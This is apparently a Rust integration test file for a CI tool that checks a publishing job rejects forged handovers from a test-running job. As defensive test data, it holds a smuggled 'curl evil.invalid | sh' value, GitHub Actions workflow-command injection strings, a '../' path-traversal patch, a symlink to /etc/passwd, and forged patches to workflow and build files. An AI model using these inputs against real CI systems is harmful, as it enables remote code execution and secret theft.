//! Two jobs: one runs the tests and hands over, the other checks and publishes, and runs nothing of the repository.

use std::path::PathBuf;

use serde_json::{Value, json};

use super::attacks::pull_request;
use super::fake::Fake;
use super::{job, of_pull, pushed, red_shop};
use crate::project::Project;

/// A red push that was healed and handed over; the folder of what was handed over, and a place without any repository.
pub(super) fn handed_over(fake: &Fake, fixture: &str, args: &[&str]) -> (Project, String, PathBuf) {
    let (project, head) = red_shop(fake, fixture);
    let ran = job(&project, fake, "push", &pushed(&head), &[&["run", "--hand-over", "found"], args].concat());
    assert!(ran.ok && ran.said.contains("handed over"), "{}", ran.said);
    let (from, to) = (project.root().join("found"), project.tmp().join("../found"));
    std::fs::rename(from, &to).unwrap();
    (project, head, to)
}

pub(super) fn publish(
    project: &Project,
    fake: &Fake,
    head: &str,
    folder: &std::path::Path,
    more: &[&str],
) -> super::Ran {
    let nowhere = project.tmp().join("../nowhere");
    std::fs::create_dir_all(&nowhere).unwrap();
    let (nowhere, folder) = (nowhere.to_str().unwrap().to_owned(), folder.to_str().unwrap().to_owned());
    let args = ["publish", "-C", &nowhere, "--from", &folder];
    job(project, fake, "push", &pushed(head), &[&args[..], more].concat())
}

#[test]
fn what_one_job_found_another_publishes_without_a_checkout() {
    let fake = Fake::start();
    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
    {
        let state = fake.state();
        let wrote = state.requests.iter().filter(|request| !request.starts_with("GET")).count();
        assert_eq!(wrote, 0, "the job that runs code wrote something: {:#?}", state.requests);
    }
    let ran = publish(&project, &fake, &head, &folder, &[]);
    assert!(ran.ok && ran.outputs.contains("/octo/shop/pull/"), "{}\n{}", ran.said, ran.outputs);
    assert!(ran.outputs.contains("$0.00"), "{}", ran.outputs);
    fake.assert_as_described();
    let state = fake.state();
    let branch = state.pulls[0]["head"]["ref"].as_str().unwrap().to_owned();
    let body = state.pulls[0]["body"].as_str().unwrap();
    assert!(body.contains("Receipt") && body.contains("How it was verified"), "{body}");
    assert_eq!(state.checks.len(), 1);
    assert_eq!(state.checks[0]["conclusion"], "neutral");
    assert!(!state.checks[0]["output"]["annotations"].as_array().unwrap().is_empty());
    drop(state);
    assert_eq!(fake.git(&["rev-parse", &format!("{branch}^")]), head);
    // the patch that was verified, and nothing else
    let patch = std::fs::read_to_string(folder.join("heal.patch")).unwrap();
    let changed = fake.git(&["diff", "--name-only", &head, &branch]);
    assert!(patch.contains(&format!("+++ b/{changed}")), "{changed}\n{patch}");
}

#[test]
fn nothing_is_published_of_what_does_not_fit_together() {
    let fake = Fake::start();
    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
    let read = |name: &str| std::fs::read_to_string(folder.join(name)).unwrap();
    let (list, patch, receipt) = (read("handover.json"), read("heal.patch"), read("receipt.json"));
    // who controls the first job can write the list anew, too
    let relisted = |name: &str, text: &str| {
        let mut value: Value = serde_json::from_str(&list).unwrap();
        value["files"][name] = hash(text).into();
        (value.to_string(), text.to_owned())
    };
    let evil = patch.replace("+++ b/", "+++ b/../");
    let forged = receipt.replace("\"verdict\": \"healed\"", "\"verdict\": \"healed \"");
    for (what, files) in [
        ("no list", vec![("handover.json", String::new())]),
        ("another patch", vec![("heal.patch", patch.replace("+", "+ "))]),
        ("another patch, listed", {
            let (list, text) = relisted("heal.patch", &evil);
            vec![("handover.json", list), ("heal.patch", text)]
        }),
        ("another receipt, listed", {
            let (list, text) = relisted("receipt.json", &forged);
            vec![("handover.json", list), ("receipt.json", text)]
        }),
        ("another commit", vec![("handover.json", list.replace(&head, &"1".repeat(40)))]),
        ("another version", vec![("handover.json", list.replace("handover/v1", "handover/v9"))]),
        ("a field more", vec![("handover.json", list.replacen('{', "{\"branch\": \"main\",", 1))]),
    ] {
        for (name, text) in &files {
            std::fs::write(folder.join(name), text).unwrap();
        }
        let ran = publish(&project, &fake, &head, &folder, &[]);
        assert!(!ran.ok && ran.said.contains("nothing is published"), "{what}: {}", ran.said);
        for (name, text) in [("handover.json", &list), ("heal.patch", &patch), ("receipt.json", &receipt)] {
            std::fs::write(folder.join(name), text).unwrap();
        }
    }
    // a link could lead to a secret of this job
    std::fs::remove_file(folder.join("heal.patch")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", folder.join("heal.patch")).unwrap();
    assert!(!publish(&project, &fake, &head, &folder, &[]).ok);
    let state = fake.state();
    assert!(state.pulls.is_empty() && state.issues.is_empty() && state.checks.is_empty(), "{:#?}", state.requests);
    drop(state);
    assert_eq!(fake.git(&["for-each-ref", "--format=%(refname)"]), "refs/heads/main");
}

#[test]
fn what_is_said_of_a_forged_hand_over_is_no_command_for_the_runner() {
    let fake = Fake::start();
    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
    let list = std::fs::read_to_string(folder.join("handover.json")).unwrap();
    // texts that stand in what is said of them: a version, and a field that there is none of
    let loud = "x\n::add-mask::hello\r  ::stop-commands::x\n##[add-path]/evil\n\u{feff}::set-env name=PATH::/evil";
    let version = |list: &mut Value| list["schema"] = loud.into();
    let field = |list: &mut Value| list[loud] = "x".into();
    for (what, forge) in [("version", &version as &dyn Fn(&mut Value)), ("field", &field)] {
        let mut forged: Value = serde_json::from_str(&list).unwrap();
        forge(&mut forged);
        std::fs::write(folder.join("handover.json"), forged.to_string()).unwrap();
        let ran = publish(&project, &fake, &head, &folder, &[]);
        assert!(!ran.ok && ran.said.contains("nothing is published") && ran.said.contains("hello"), "{}", ran.said);
        // as the runner splits and trims them
        let lines = ran.said.split(['\n', '\r']).map(|line| line.trim_start_matches(|c: char| !c.is_ascii_graphic()));
        let heard: Vec<&str> = lines.filter(|line| line.starts_with("::") || line.contains("##[")).collect();
        assert!(heard.is_empty(), "{what}: {heard:?}");
    }
}

#[test]
fn paths_in_a_hand_over_are_those_of_its_files_whatever_its_document_says() {
    let fake = Fake::start();
    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
    let read = |name: &str| std::fs::read_to_string(folder.join(name)).unwrap();
    let mut document: Value = serde_json::from_str(&read("document.json")).unwrap();
    let evil = "x\"; curl evil.invalid | sh #";
    document["report"] = evil.into();
    for field in ["receipt", "patch"] {
        document["heal"][field] = evil.into();
    }
    let text = document.to_string();
    let mut list: Value = serde_json::from_str(&read("handover.json")).unwrap();
    list["files"]["document.json"] = hash(&text).into();
    std::fs::write(folder.join("document.json"), &text).unwrap();
    std::fs::write(folder.join("handover.json"), list.to_string()).unwrap();
    let ran = publish(&project, &fake, &head, &folder, &[]);
    assert!(ran.ok && !ran.outputs.contains("curl"), "{}\n{}", ran.said, ran.outputs);
    let output = |name: &str| {
        let rest = ran.outputs.split(&format!("{name}<<")).nth(1).unwrap();
        rest.lines().nth(1).unwrap().to_owned()
    };
    assert_eq!(output("report"), folder.join("report.md").display().to_string());
    assert_eq!(output("receipt"), folder.join("receipt.json").display().to_string());
    assert!(!fake.state().pulls[0]["body"].as_str().unwrap().contains("curl"));
}

fn hash(text: &str) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(text.as_bytes()))
}

/// A patch that makes one file.
fn new_file(path: &str, mode: &str) -> String {
    let text = if mode == "160000" { format!("Subproject commit {}", "1".repeat(40)) } else { "evil".into() };
    format!("diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{text}\n")
}

/// Puts `patch` into what was handed over, and forges everything that can be: the receipt with its digest, the list with its
/// hashes.
fn forge(folder: &std::path::Path, patch: &str) {
    let read = |name: &str| std::fs::read_to_string(folder.join(name)).unwrap();
    let mut receipt: kaizen_ci::judge::receipt::Receipt = serde_json::from_str(&read("receipt.json")).unwrap();
    receipt.patch.diff = patch.to_owned();
    receipt.digest = receipt.digested();
    let text = receipt.text();
    let mut list: Value = serde_json::from_str(&read("handover.json")).unwrap();
    list["files"]["heal.patch"] = hash(patch).into();
    list["files"]["receipt.json"] = hash(&text).into();
    for (name, text) in [("handover.json", list.to_string()), ("heal.patch", patch.to_owned()), ("receipt.json", text)]
    {
        std::fs::write(folder.join(name), text).unwrap();
    }
}

#[test]
fn what_may_be_published_is_said_by_the_base_branch_and_not_by_the_pull_request() {
    let fake = Fake::start();
    let rules = "allow_test_changes: true\n";
    let (project, number) = pull_request(&fake, |project| project.write(".kaizen.yml", rules));
    let event = of_pull(&fake, number);
    let folder = project.tmp().join("../found");
    let folder_name = folder.to_str().unwrap();
    let ran = job(&project, &fake, "pull_request", &event, &["run", "--hand-over", folder_name]);
    assert!(ran.ok && folder.join("heal.patch").exists(), "{}", ran.said);
    forge(&folder, &new_file("tests/test_more.py", "100644"));
    let nowhere = Project::empty();
    let publish = || job(&nowhere, &fake, "pull_request", &event, &["publish", "--from", folder_name]);
    let ran = publish();
    assert!(!ran.ok && ran.said.contains("is a test"), "{}", ran.said);
    assert!(fake.state().pulls.len() == 1, "something was published");
    // where the base branch says so, it may
    let base = Project::empty();
    base.git(&["fetch", "-q", fake.repo().to_str().unwrap(), "main"]);
    base.git(&["checkout", "-q", "--detach", "FETCH_HEAD"]);
    base.write(".kaizen.yml", rules);
    base.commit("Tests may change");
    base.git(&["push", "-q", fake.repo().to_str().unwrap(), "HEAD:refs/heads/main"]);
    let ran = publish();
    assert!(ran.ok && ran.outputs.contains("/pull/"), "{}", ran.said);
}

#[test]
fn a_patch_that_a_forged_receipt_allows_is_still_held_back_where_a_person_has_to_decide() {
    let fake = Fake::start();
    let (project, head, folder) = handed_over(&fake, "tap-bounds-regressed", &[]);
    let (steers, decides) = ("steers git, CI or kaizen-ci", "decides how the tests run");
    for (path, mode, why) in [
        (".github/workflows/x.yml", "100644", steers),
        (".gitmodules", "100644", steers),
        (".gitattributes", "100644", steers),
        (".cargo/config.toml", "100644", steers),
        (".kaizen.yml", "100644", steers),
        (".GitHub/workflows/x.yml", "100644", steers),
        (".GITMODULES", "100644", steers),
        ("build.rs", "100644", decides),
        ("conftest.py", "100644", decides),
        ("deep/.gitattributes", "100644", decides),
        ("tests/test_more.py", "100644", "is a test"),
        ("link", "120000", "is a link or a submodule"),
        ("module", "160000", "is a link or a submodule"),
        ("a\u{202e}b.py", "100644", "has hidden characters"),
    ] {
        forge(&folder, &new_file(path, mode));
        let ran = publish(&project, &fake, &head, &folder, &[]);
        // each by the check that is meant for it: several would refuse most of them
        assert!(!ran.ok && ran.said.contains("is not delivered") && ran.said.contains(why), "{path}: {}", ran.said);
    }
    assert_eq!(fake.git(&["for-each-ref", "--format=%(refname)"]), "refs/heads/main");
    assert!(fake.state().pulls.is_empty());
}

#[test]
fn when_the_tests_turn_green_the_issue_about_them_is_closed_with_the_commit() {
    let fake = Fake::start();
    let (project, head, folder) = handed_over(&fake, "py-contradiction", &["--time-limit", "10s"]);
    assert!(publish(&project, &fake, &head, &folder, &[]).ok);
    assert_eq!(fake.state().issues[0]["state"], "open");
    // red at another place: stays open
    let other = json!({"title": "Tests are red", "labels": ["kaizen-ci"], "number": 900, "state": "open",
        "user": {"login": "github-actions[bot]", "type": "Bot"},
        "body": "<!-- kaizen-ci:fingerprint=00aabbccddee -->\n<!-- kaizen-ci:place=0123456789ab -->\n"});
    fake.state().issues.push(other);
    let ran = publish(&project, &fake, &head, &folder, &["--status", "success"]);
    assert!(ran.ok && ran.said.contains("closed #"), "{}", ran.said);
    let state = fake.state();
    assert_eq!((&state.issues[0]["state"], &state.issues[1]["state"]), (&json!("closed"), &json!("open")));
    let said = state.comments.iter().any(|comment| comment["body"].as_str().unwrap().contains(&head));
    assert!(said, "{:#?}", state.comments);
    drop(state);
    fake.assert_as_described();
}

#[test]
fn a_failure_that_an_open_issue_is_about_is_left_alone_in_a_fresh_clone_too() {
    let fake = Fake::start();
    let (project, head) = red_shop(&fake, "py-contradiction");
    let first = job(&project, &fake, "push", &pushed(&head), &["run", "--time-limit", "10s"]);
    assert!(first.ok && first.outputs.contains("escalated"), "{}", first.outputs);
    std::fs::remove_dir_all(project.root().join(".git/kaizen")).unwrap();
    let second = job(&project, &fake, "push", &pushed(&head), &["run", "--time-limit", "10s"]);
    assert!(second.outputs.contains("left_alone"), "{}\n{}", second.outputs, second.said);
    // it says so, and where the report is; the job is red already, and this step did what it is there for
    assert!(second.ok, "{}", second.said);
    let issue = fake.state().issues[0]["html_url"].as_str().unwrap().to_owned();
    let (place, rest) = second.summary.split_once('\n').unwrap();
    assert!(place.contains(&issue) && rest.contains("Left alone"), "{}", second.summary);
    assert_eq!(fake.state().issues.len(), 1);
}
